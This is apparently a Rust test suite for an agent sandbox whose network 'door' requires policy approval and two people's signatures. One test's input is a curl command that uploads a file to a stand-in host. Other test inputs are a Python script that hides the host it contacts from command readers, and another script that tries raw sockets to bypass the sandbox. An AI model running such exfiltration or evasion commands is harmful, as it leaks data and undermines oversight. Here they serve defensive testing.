//! Real package managers in the box, through the dependency door, from the registries that this machine's clients use.

use std::path::PathBuf;

use serde_json::Value;
use testkit::World;

use super::{done, shell, turn, world};

/// What the machine's own clients need to reach its registries: nothing else of the machine is in the world.
const NEEDED: [&str; 13] = [
    "HTTPS_PROXY", "https_proxy", "NO_PROXY", "no_proxy", "SSL_CERT_FILE", "SSL_CERT_DIR", "NODE_EXTRA_CA_CERTS", "PIP_CERT", "PIP_INDEX_URL",
    "REQUESTS_CA_BUNDLE", "CURL_CA_BUNDLE", "npm_config_registry", "CARGO_HTTP_CAINFO",
];
/// Configuration of those clients in the home.
const FILES: [&str; 4] = [".npmrc", ".config/pip/pip.conf", ".pip/pip.conf", ".cargo/config.toml"];

/// A world whose clients are configured as this machine's are.
fn connected(files: &[(&str, &str)]) -> World {
    let mut world = world();
    world.project(files);
    let home = PathBuf::from(std::env::var_os("HOME").unwrap());
    for name in NEEDED {
        if let Ok(value) = std::env::var(name) {
            world.set(name, &value);
        }
    }
    for name in FILES {
        if let Ok(text) = std::fs::read(home.join(name)) {
            world.write(&format!("home/{name}"), text);
        }
    }
    toolchains(&mut world);
    world
}

/// Tells a world where this machine has its toolchains.
pub(super) fn toolchains(world: &mut World) {
    let home = PathBuf::from(std::env::var_os("HOME").unwrap());
    for (name, usual) in [("RUSTUP_HOME", ".rustup"), ("PYENV_ROOT", ".pyenv")] {
        let folder = std::env::var_os(name).map_or_else(|| home.join(usual), PathBuf::from);
        if folder.is_dir() {
            world.set(name, folder.to_str().unwrap());
        }
    }
}

/// Hosts that the door opened for, as the ledger has them.
fn reached(world: &World, is: &str) -> Vec<String> {
    let shown = world.call("ana", &["ledger", "show", "--json"]);
    let events: Vec<Value> = shown.must_succeed().out.lines().map(|line| serde_json::from_str::<Value>(line).unwrap()["entry"]["event"].clone()).collect();
    let asked = events.iter().filter(|event| event["intent"]["deed"]["do"] == "reach");
    let ended = |id: &Value| events.iter().any(|event| event["is"] == is && event["intent"] == *id);
    let host = |event: &Value| event["intent"]["deed"]["host"].as_str().unwrap().to_owned();
    asked.filter(|event| ended(&event["intent"]["id"])).map(host).collect()
}

#[test]
fn npm_installs_in_the_box_and_the_hosts_are_on_the_ledger() {
    let world = connected(&[(".gitignore", "node_modules/\n"), ("package.json", "{\"name\": \"app\", \"version\": \"1.0.0\"}\n")]);
    let install = "npm install --no-audit --no-fund is-number@7.0.0 && node -e \"console.log('works ' + require('is-number')(7))\"";
    world.run(&[turn("", &[shell(install)]), done()], &[]).must_end_with(1).must_say("works true").must_say("package.json").must_not_say("node_modules/is-number");
    world.call("ana", &["sign", &world.held("land")]).must_succeed();
    assert!(world.read("project/package.json").contains("is-number"));
    assert!(!world.path("project/node_modules").exists(), "dependencies stay in the copy");
    assert!(!reached(&world, "finished").is_empty());
}

#[test]
fn pip_installs_in_the_box() {
    let world = connected(&[("app.py", "import six\nprint('works', six.PY3)\n"), (".gitignore", "lib/\n")]);
    let install = "python3 -m pip install --quiet --target lib six && PYTHONPATH=lib python3 app.py";
    world.run(&[turn("", &[shell(install)]), done()], &[]).must_succeed().must_say("works True");
    assert!(!reached(&world, "finished").is_empty());
    assert!(!world.path("project/lib").exists());
}

#[test]
fn cargo_fetches_and_builds_in_the_box() {
    let manifest = "[package]\nname = \"app\"\nversion = \"0.1.0\"\nedition = \"2021\"\n\n[dependencies]\nitoa = \"1\"\n";
    let main = "fn main() {\n    println!(\"works {}\", itoa::Buffer::new().format(42));\n}\n";
    let world = connected(&[("Cargo.toml", manifest), ("src/main.rs", main), (".gitignore", "target/\n")]);
    world.run(&[turn("", &[shell("cargo run --quiet")]), done()], &[]).must_end_with(1).must_say("works 42").must_say("Cargo.lock");
    assert!(!reached(&world, "finished").is_empty());
    assert!(!world.path("project/target").exists());
}

/// Asks for a page of a host that nobody named, in a way that no reader of commands sees, and prints what came back.
const ASK: &str = "import os, urllib.error, urllib.request
try:
    urllib.request.urlopen('http://' + '.'.join(['packages', 'example', 'invalid']) + '/')
except urllib.error.HTTPError as e:
    print('answer', e.code, e.read().decode())
";

#[test]
fn a_host_that_policy_does_not_name_is_held_and_opens_when_the_right_people_signed() {
    let world = connected(&[("ask.py", ASK)]);
    world.enrol("ben", &["engineer"]);
    world.enrol("olga", &["engineer", "owner"]);
    let ask = || [turn("", &[shell("python3 ask.py")]), done()];
    world.run(&ask(), &[]).must_say("answer 403").must_say("`packages.example.invalid:80` is held");
    assert_eq!(reached(&world, "finished"), Vec::<String>::new());
    let id = world.held("reach");
    world.call("ana", &["show", &id]).must_succeed().must_say("packages.example.invalid:80").must_say("two people who did not ask");
    world.call("ben", &["sign", &id]).must_succeed().must_say("still needs");
    let session = world.call("ana", &["sessions"]).out.split_whitespace().next().unwrap().to_owned();
    let model = world.recording(&ask());
    let again = || world.call("ana", &["resume", &session, "Again.", "--headless", "--model", &model]);
    again().must_say("answer 403");
    assert_eq!(world.held("reach"), id, "it is still the same request");
    world.call("olga", &["sign", &id]).must_succeed().must_say("for an hour");
    again().must_say("answer 502").must_say("is open, but");
    assert_eq!(reached(&world, "finished"), ["packages.example.invalid"]);
    world.call("ana", &["ledger", "verify"]).must_succeed();
}

#[test]
fn a_host_that_the_text_of_a_command_names_is_held_before_it_runs() {
    let world = connected(&[("a.txt", "one\n")]);
    world.run(&[turn("", &[shell("curl https://upload.example.invalid/ -d @a.txt; echo ran")]), done()], &[]).must_end_with(1).must_say("upload.example.invalid").must_not_say("│ ran");
    world.held("shell");
}

/// Tries what does not ask the door: straight to an address, to the machine's own loopback, and the machine's resolver.
const AROUND: &str = "import socket, sys
for family, place in ((socket.AF_INET, ('1.1.1.1', 53)), (socket.AF_INET, ('127.0.0.1', int(sys.argv[1]))), (socket.AF_UNIX, sys.argv[2])):
    with socket.socket(family) as s:
        s.settimeout(3)
        try:
            s.connect(place)
            print('got out to', place)
        except OSError as e:
            pass
try:
    print('got a name', socket.getaddrinfo('localhost.example.invalid', 80))
except OSError:
    print('tried all')
";

#[test]
fn nothing_but_the_door_leads_out() {
    let world = connected(&[("around.py", AROUND)]);
    let (tcp, path) = (std::net::TcpListener::bind("127.0.0.1:0").unwrap(), world.path("listening"));
    let _unix = std::os::unix::net::UnixListener::bind(&path).unwrap();
    let port = tcp.local_addr().unwrap().port();
    let command = format!("python3 around.py {port} {}", path.display());
    world.run(&[turn("", &[shell(&command)]), done()], &[]).must_say("tried all").must_not_say("got out").must_not_say("got a name");
}
